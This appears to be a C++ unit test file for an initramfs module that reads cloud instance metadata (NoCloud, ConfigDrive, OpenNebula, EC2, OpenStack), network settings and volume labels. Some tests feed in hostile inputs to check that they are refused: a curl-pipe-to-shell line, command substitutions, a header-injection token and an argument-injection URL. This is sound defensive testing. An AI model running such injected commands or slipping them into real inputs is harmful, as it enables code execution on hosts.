#include "initramfs/context/context.h"

#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/socket.h>

#include <map>

#include "fs/base/file.h"
#include "initramfs/context/reachable.h"
#include "initramfs/context/shell_assignments.h"
#include "initramfs/context/sources.h"
#include "initramfs/context/volumes.h"

namespace granary {
namespace {
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::SizeIs;
using testing::StartsWith;

constexpr const char* kKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExample one@example.org";

class SeedTest : public testing::Test {
 protected:
  SeedVolume volume(const std::string& label, const std::string& type,
                    const std::map<std::string, std::string>& files) {
    SeedVolume volume{"/dev/vdb", label, type, folder_->path() + "/" + std::to_string(count_++)};
    for (const auto& [name, content] : files) {
      const std::string path = volume.folder + "/" + name;
      EXPECT_TRUE(make_directories(path.substr(0, path.rfind('/'))));
      EXPECT_TRUE(replace_file(path, content, 0644, Durability::kFast));
    }
    return volume;
  }

  Context look(std::unique_ptr<ContextSource> source, const std::vector<SeedVolume>& volumes, const Fetch& fetch = {}) {
    std::vector<std::unique_ptr<ContextSource>> sources;
    sources.push_back(std::move(source));
    return first_context(sources, volumes, fetch);
  }

 private:
  Result<TemporaryDirectory> folder_ = TemporaryDirectory::make();
  int count_ = 0;
};

TEST_F(SeedTest, NoCloudIsReadFromADiskLabelledCidata) {
  const auto context = look(
      nocloud_disk(),
      {volume("OTHER", "iso9660", {{"meta-data", "instance-id: wrong"}}),
       volume(
           "CIDATA", "vfat",
           {{"meta-data", std::string("instance-id: iid-7\nlocal-hostname: grain\npublic-keys:\n  - ") + kKey + "\n"},
            {"user-data", "#cloud-config\n# [granary]\n# branch = testing\n"},
            {"network-config",
             "version: 2\nethernets:\n  eth0: {addresses: [192.0.2.7/24], gateway4: 192.0.2.1}\n"}})});
  EXPECT_EQ(context.source, "NoCloud (/dev/vdb)");
  EXPECT_EQ(context.instance_id, "iid-7");
  EXPECT_EQ(context.hostname, "grain");
  EXPECT_THAT(context.ssh_keys, ElementsAre(kKey));
  ASSERT_THAT(context.network.links, SizeIs(1));
  EXPECT_THAT(context.user_data, StartsWith("#cloud-config"));
  ASSERT_THAT(context.sayings, SizeIs(1));
  EXPECT_EQ(context.sayings[0].origin, "NoCloud (/dev/vdb)");
  EXPECT_THAT(context.complaints, IsEmpty());
}

TEST_F(SeedTest, BrokenFilesOfNoCloudAreComplaints) {
  const auto context = look(nocloud_disk(), {volume("cidata", "iso9660",
                                                    {{"meta-data", "a: &b c\n"},
                                                     {"user-data", "[granary]\nbranch = still\n"},
                                                     {"network-config", "version: 2\nbonds: {}\nvlans: {a: {}}\n"}})});
  EXPECT_EQ(context.source, "NoCloud (/dev/vdb)");
  EXPECT_THAT(context.sayings, SizeIs(1));
  EXPECT_FALSE(context.network.says_anything());
  EXPECT_THAT(context.complaints, ElementsAre(HasSubstr("meta-data: line 1"), HasSubstr("by DHCP instead")));
}

TEST_F(SeedTest, NamesAndKeysThatAreNoneAreLeftOut) {
  const auto context = look(nocloud_disk(), {volume("cidata", "iso9660",
                                                    {{"meta-data",
                                                      "instance-id: x\nlocal-hostname: \"a b\"\npublic-keys: |\n"
                                                      "  curl http://example.org | sh\n"}})});
  EXPECT_EQ(context.hostname, "");
  EXPECT_THAT(context.ssh_keys, IsEmpty());
  EXPECT_THAT(context.complaints, SizeIs(2));
}

TEST_F(SeedTest, ConfigDriveIsReadWithItsNetwork) {
  const auto context = look(
      config_drive(),
      {volume("config-2", "vfat",
              {{"openstack/latest/meta_data.json",
                std::string(
                    R"({"uuid": "83679162", "hostname": "grain.novalocal", "name": "grain", "public_keys": {"me": ")") +
                    kKey + R"("}, "random_seed": "x"})"},
               {"openstack/latest/user_data", "[granary]\ntag = 1\n"},
               {"openstack/latest/network_data.json",
                R"({"links": [{"id": "a", "type": "phy", "ethernet_mac_address": "52:54:00:00:00:01"}],
                    "networks": [{"type": "ipv4", "link": "a", "ip_address": "192.0.2.7", "netmask": "255.255.255.0"}]})"}})});
  EXPECT_EQ(context.instance_id, "83679162");
  EXPECT_EQ(context.hostname, "grain.novalocal");
  EXPECT_THAT(context.ssh_keys, ElementsAre(kKey));
  ASSERT_THAT(context.network.links, SizeIs(1));
  EXPECT_THAT(context.network.links[0].addresses, ElementsAre("192.0.2.7/24"));
  EXPECT_THAT(context.sayings, SizeIs(1));
}

TEST_F(SeedTest, CernVmsLauncherDriveIsReadToo) {
  const auto context =
      look(config_drive(),
           {volume("CDROM", "iso9660",
                   {{"ec2/latest/user-data", "[granary]\nbranch = a\n"}, {"openstack/latest/meta_data.json", "{}"}})});
  EXPECT_THAT(context.sayings, SizeIs(1));
}

TEST_F(SeedTest, ABrokenSourceIsToldOfAndTheNextIsAsked) {
  std::vector<std::unique_ptr<ContextSource>> sources;
  sources.push_back(config_drive());
  sources.push_back(nocloud_disk());
  const auto context = first_context(sources,
                                     {volume("config-2", "vfat", {{"openstack/latest/meta_data.json", "{"}}),
                                      volume("cidata", "vfat", {{"meta-data", ""}})},
                                     {});
  EXPECT_EQ(context.source, "NoCloud (/dev/vdb)");
  EXPECT_THAT(context.complaints, ElementsAre(HasSubstr("not JSON; the next source is asked")));
}

TEST_F(SeedTest, OpenNebulaIsParsedAndNeverRun) {
  const auto context =
      look(open_nebula(), {volume("CONTEXT", "iso9660", {{"context.sh", R"(# Context variables generated by OpenNebula
DISK_ID='1'
ETH0_DNS='192.0.2.53 192.0.2.54'
ETH0_GATEWAY='192.0.2.1'
ETH0_IP='192.0.2.7'
ETH0_IP6='2001:db8::7'
ETH0_IP6_PREFIX_LENGTH='48'
ETH0_MAC='02:00:C0:00:02:07'
ETH0_MASK='255.255.255.128'
ETH0_MTU='1400'
ETH0_ROUTES='10.0.0.0/8 via 192.0.2.9'
ETH0_SEARCH_DOMAIN='example.org'
ETH1_MAC='02:00:c0:00:02:08'
ETH1_METHOD='dhcp'
SET_HOSTNAME="grain"
SSH_PUBLIC_KEY='ssh-ed25519 AAAA it'\''s me
ssh-rsa BBBB two'
USER_DATA='W2dyYW5hcnldCmJyYW5jaCA9IG9uZQo='
USER_DATA_ENCODING='base64'
VMID='42'
START_SCRIPT=$(touch /tmp/pwned)
touch /tmp/pwned
)"}})});
  EXPECT_EQ(context.instance_id, "one-42");
  EXPECT_EQ(context.hostname, "grain");
  EXPECT_THAT(context.ssh_keys, ElementsAre("ssh-ed25519 AAAA it's me", "ssh-rsa BBBB two"));
  EXPECT_EQ(context.user_data, "[granary]\nbranch = one\n");
  EXPECT_THAT(context.sayings, SizeIs(1));
  ASSERT_THAT(context.network.links, SizeIs(2));
  const auto& eth0 = context.network.links[0];
  EXPECT_EQ(eth0.mac, "02:00:c0:00:02:07");
  EXPECT_THAT(eth0.addresses, ElementsAre("192.0.2.7/25", "2001:db8::7/48"));
  EXPECT_THAT(eth0.gateways, ElementsAre("192.0.2.1"));
  EXPECT_EQ(eth0.mtu, 1400u);
  ASSERT_THAT(eth0.routes, SizeIs(1));
  EXPECT_TRUE(context.network.links[1].dhcp);
  EXPECT_THAT(context.network.dns, ElementsAre("192.0.2.53", "192.0.2.54"));
  EXPECT_THAT(context.network.search, ElementsAre("example.org"));
  EXPECT_THAT(context.complaints,
              ElementsAre(HasSubstr("nothing is looked up or run: START_SCRIPT"), HasSubstr("no assignment")));
}

TEST_F(SeedTest, CernVmOnlinesContextIsReadAsOpenNebulas) {
  const auto context = look(open_nebula(), {volume("", "iso9660",
                                                   {{"context.sh",
                                                     "VM_CONTEXT_UUID=0123456789abcdef\nVM_CONTEXT_NAME=\"a b\"\n"
                                                     "EC2_USER_DATA=W3VjZXJudm0tYmVnaW5dCnJlc2l6ZV9yb290ZnM9"
                                                     "b24KW3VjZXJudm0tZW5kXQo=\nROOT_PUBKEY=c3NoLXJzYSBBQUFB\n"}})});
  EXPECT_THAT(context.ssh_keys, ElementsAre("ssh-rsa AAAA"));
  ASSERT_THAT(context.sayings, SizeIs(1));
  EXPECT_EQ(context.sayings[0].name, "resize");
}

TEST(ShellAssignmentsTest, QuotesAreAShells) {
  const auto said =
      parse_shell_assignments("A=a'b c'\"d\\\"e\\f\"\\ g\nexport B='x\ny'; C=\nD=$HOME\nE=\"`id`\"\nF='open");
  EXPECT_EQ(said.value("A"), "ab cd\"e\\f g");
  EXPECT_EQ(said.value("B"), "x\ny");
  EXPECT_TRUE(said.values.contains("C"));
  EXPECT_THAT(said.values, SizeIs(3));
  EXPECT_THAT(said.refused, ElementsAre(HasSubstr("line 4: nothing is looked up or run: D"), HasSubstr("E"),
                                        HasSubstr("a quote without an end: F")));
}

// A metadata server that has these pages, by URL; a page "PUT URL" is had by PUT.
class Pages {
 public:
  Pages() = default;
  explicit Pages(std::map<std::string, std::string> pages) : pages_(std::move(pages)) {}
  Fetch fetch() {
    return [this](const FetchRequest& request) -> Result<Bytes> {
      asked.push_back(request);
      const std::string name = (request.method == "GET" ? "" : request.method + " ") + request.url;
      if (token_needed && request.method == "GET" && request.headers.empty())
        return Error{Code::kUnavailable, "HTTP 401"};
      const auto found = pages_.find(name);
      if (found == pages_.end()) return Error{Code::kNotFound, request.url + ": HTTP 404"};
      return found->second;
    };
  }
  std::vector<FetchRequest> asked;
  bool token_needed = false;

 private:
  std::map<std::string, std::string> pages_;
};

const std::map<std::string, std::string> kEc2 = {
    {"http://md/latest/meta-data/instance-id", "i-0abc"},
    {"http://md/latest/meta-data/local-hostname", "ip-10-0-0-7.ec2.internal"},
    {"http://md/latest/meta-data/public-keys/", "0=me\n1=you"},
    {"http://md/latest/meta-data/public-keys/0/openssh-key", std::string(kKey) + "\n"},
    {"http://md/latest/meta-data/public-keys/1/openssh-key", "ssh-rsa BBBB you\n"},
    {"http://md/latest/user-data", "[granary]\nbranch = cloud\n"}};

TEST_F(SeedTest, Ec2IsAskedWithAToken) {
  auto pages = kEc2;
  pages["PUT http://md/latest/api/token"] = "dG9rZW4=";
  Pages server(pages);
  server.token_needed = true;
  const auto context = look(ec2_metadata("http://md/"), {}, server.fetch());
  EXPECT_EQ(context.source, "EC2 (http://md/, version 2)");
  EXPECT_EQ(context.instance_id, "i-0abc");
  EXPECT_EQ(context.hostname, "ip-10-0-0-7.ec2.internal");
  EXPECT_THAT(context.ssh_keys, ElementsAre(kKey, "ssh-rsa BBBB you"));
  EXPECT_THAT(context.sayings, SizeIs(1));
  EXPECT_THAT(server.asked[0].headers, ElementsAre("X-aws-ec2-metadata-token-ttl-seconds: 21600"));
  EXPECT_THAT(server.asked[1].headers, ElementsAre("X-aws-ec2-metadata-token: dG9rZW4="));
}

TEST_F(SeedTest, Ec2FallsBackToVersionOne) {
  Pages server(kEc2);
  const auto context = look(ec2_metadata("http://md/"), {}, server.fetch());
  EXPECT_EQ(context.source, "EC2 (http://md/, version 1)");
  EXPECT_EQ(context.instance_id, "i-0abc");
}

TEST_F(SeedTest, ATokenWithALineEndInItGoesIntoNoHeader) {
  auto pages = kEc2;
  pages["PUT http://md/latest/api/token"] = "a b\r\nX-Evil: 1";
  Pages server(pages);
  look(ec2_metadata("http://md/"), {}, server.fetch());
  for (const auto& request : server.asked) EXPECT_EQ(request.headers.empty(), request.method == "GET");
}

TEST_F(SeedTest, Ec2WithoutUserDataIsAContextAllTheSame) {
  Pages server(std::map<std::string, std::string>{{"http://md/latest/meta-data/instance-id", "i-1"}});
  const auto context = look(ec2_metadata("http://md/"), {}, server.fetch());
  EXPECT_EQ(context.instance_id, "i-1");
  EXPECT_EQ(context.user_data, "");
  Pages nobody;
  EXPECT_EQ(look(ec2_metadata("http://md/"), {}, nobody.fetch()).source, "");
}

TEST_F(SeedTest, OpenStackIsAskedByItsOwnNames) {
  Pages server({{"http://md/openstack/latest/meta_data.json", R"({"uuid": "u-1", "name": "grain"})"},
                {"http://md/openstack/latest/user_data", "[granary]\nbranch = stack\n"}});
  const auto context = look(openstack_metadata("http://md/"), {}, server.fetch());
  EXPECT_EQ(context.instance_id, "u-1");
  EXPECT_EQ(context.hostname, "grain");
  EXPECT_THAT(context.sayings, SizeIs(1));
  Pages nobody;
  EXPECT_EQ(look(openstack_metadata("http://md/"), {}, nobody.fetch()).source, "");
}

TEST_F(SeedTest, NoCloudIsReadFromTheNetwork) {
  Pages server(
      {{"http://seed/x/meta-data", "instance-id: net-1\n"}, {"http://seed/x/user-data", "[granary]\nverbose\n"}});
  const auto context = look(nocloud_network("http://seed/x/"), {}, server.fetch());
  EXPECT_EQ(context.source, "NoCloud (http://seed/x/)");
  EXPECT_EQ(context.instance_id, "net-1");
  EXPECT_THAT(context.sayings, SizeIs(1));
  Pages nobody;
  EXPECT_THAT(look(nocloud_network("http://seed/x/"), {}, nobody.fetch()).complaints, SizeIs(1));
}

TEST(ContextTest, TheSerialNumberMayNameASeed) {
  EXPECT_EQ(seed_in_serial("ds=nocloud;s=http://192.0.2.1:8000\n"), "http://192.0.2.1:8000/");
  EXPECT_EQ(seed_in_serial("ds=nocloud-net;h=grain;seedfrom=https://example.org/x/"), "https://example.org/x/");
  for (const char* other : {"", "VMware-56 4d", "ds=nocloud", "ds=nocloud;s=file:///etc/", "ds=ec2;s=http://x/",
                            "ds=nocloud;s=http://x/ --output=/etc/passwd"})
    EXPECT_EQ(seed_in_serial(other), "") << other;
}

TEST(ReachableTest, OnlyWhoTakesAConnectionAnswers) {
  const UniqueFd listening(::socket(AF_INET, SOCK_STREAM, 0)), bound(::socket(AF_INET, SOCK_STREAM, 0));
  std::vector<std::string> urls;
  for (const UniqueFd* fd : {&listening, &bound}) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    ASSERT_EQ(::bind(fd->get(), reinterpret_cast<sockaddr*>(&address), size), 0);
    ASSERT_EQ(::getsockname(fd->get(), reinterpret_cast<sockaddr*>(&address), &size), 0);
    urls.push_back("http://127.0.0.1:" + std::to_string(ntohs(address.sin_port)) + "/latest/");
  }
  ASSERT_EQ(::listen(listening.get(), 1), 0);
  urls.emplace_back("http://metadata.example.org/");
  urls.emplace_back("");
  EXPECT_THAT(reachable(urls, std::chrono::milliseconds(2000)), ElementsAre(true, false, true, true));
}

TEST(ContextTest, SourcesComeInTheOrderTheyAreSaid) {
  const auto names = [](const Settings& settings) {
    std::vector<std::string> all;
    for (const auto& source : context_sources(settings)) all.emplace_back(source->name());
    return all;
  };
  Settings settings;
  EXPECT_THAT(names(settings), ElementsAre("nocloud", "configdrive", "opennebula", "openstack", "ec2"));
  settings.seed = "http://seed/";
  settings.context = "ec2,nocloud";
  EXPECT_THAT(names(settings), ElementsAre("ec2", "nocloud", "nocloud"));
  settings.context = "none";
  EXPECT_THAT(names(settings), IsEmpty());
}

TEST(ContextTest, WhatIsSavedReadsBackAsTheSame) {
  Context context;
  context.source = "NoCloud (/dev/vdb)";
  context.instance_id = "iid";
  context.hostname = "grain";
  context.ssh_keys = {kKey};
  context.user_data = Bytes(
      "\0\xff"
      "binary",
      8);
  context.sayings = {{"branch", "testing", SaidBy::kContext, "NoCloud (/dev/vdb)"}};
  context.complaints = {"one"};
  LinkPlan link;
  link.mac = "52:54:00:00:00:01";
  link.addresses = {"192.0.2.7/24"};
  link.routes = {{"10.0.0.0/8", "192.0.2.1"}};
  link.mtu = 1400;
  link.dhcp6 = true;
  context.network.links = {link};
  context.network.dns = {"192.0.2.53"};
  const Bytes saved = serialise(context);
  const auto again = parse_context(saved);
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_EQ(serialise(*again), saved);
  EXPECT_EQ(again->user_data, context.user_data);
  ASSERT_THAT(again->network.links, SizeIs(1));
  EXPECT_TRUE(again->network.links[0].dhcp6);
  EXPECT_FALSE(parse_context(saved.substr(0, saved.size() / 2)));
  EXPECT_EQ(parse_context("{\"version\": 2}").error().code, Code::kUnsupported);
}

TEST(VolumesTest, FileSystemsAreKnownByTheirFirstSectors) {
  Bytes iso(65536, '\0');
  iso.replace(32768, 6,
              "\x01"
              "CD001");
  iso.replace(32768 + 40, 32, "cidata                          ");
  EXPECT_EQ(*identify_volume(iso), (VolumeKind{"iso9660", "cidata"}));

  Bytes fat(65536, '\0');
  fat.replace(510, 2, "\x55\xaa");
  fat.replace(54, 8, "FAT16   ");
  fat.replace(43, 11, "NO NAME    ");
  fat[12] = 2;   // sectors of 512 bytes
  fat[14] = 1;   // reserved
  fat[16] = 2;   // tables
  fat[17] = 16;  // entries in the root directory
  fat[22] = 4;   // sectors a table
  EXPECT_EQ(*identify_volume(fat), (VolumeKind{"vfat", ""}));
  fat.replace((1 + 2 * 4) * 512, 12, "CONFIG-2   \x08");
  EXPECT_EQ(*identify_volume(fat), (VolumeKind{"vfat", "CONFIG-2"}));

  Bytes ext4(65536, '\0');
  ext4.replace(1024 + 56, 2, "\x53\xef");
  ext4.replace(1024 + 120, 4, "data");
  EXPECT_EQ(*identify_volume(ext4), (VolumeKind{"ext4", "data"}));
  EXPECT_FALSE(identify_volume(Bytes(65536, '\0')));
  EXPECT_FALSE(identify_volume("short"));
}

}  // namespace
}  // namespace granary
